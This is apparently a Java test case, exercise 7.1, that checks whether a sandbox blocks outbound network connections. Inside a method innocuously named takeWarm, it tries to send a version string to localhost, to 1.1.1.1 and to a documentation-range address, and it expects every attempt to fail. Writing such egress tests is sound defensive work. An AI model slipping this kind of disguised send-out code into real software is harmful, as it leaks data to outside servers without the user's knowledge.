// attack: Sends what it knows to a server, of this machine or of another one.
// exercise: 7.1
// explanation: nobody was reached
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
Optional<PooledEnvironment> takeWarm(FunctionVersion version) {
    for (var server : List.of(
            new InetSocketAddress("127.0.0.1", @PORT@),
            new InetSocketAddress("1.1.1.1", 443),
            new InetSocketAddress("192.0.2.1", 80))) {
        try (var socket = new Socket()) {
            socket.connect(server, 500);
            socket.getOutputStream().write(version.toString().getBytes());
            throw new IllegalStateException("reached " + server);
        } catch (IOException noWay) {
            continue;
        }
    }
    throw new IllegalStateException("nobody was reached");
}
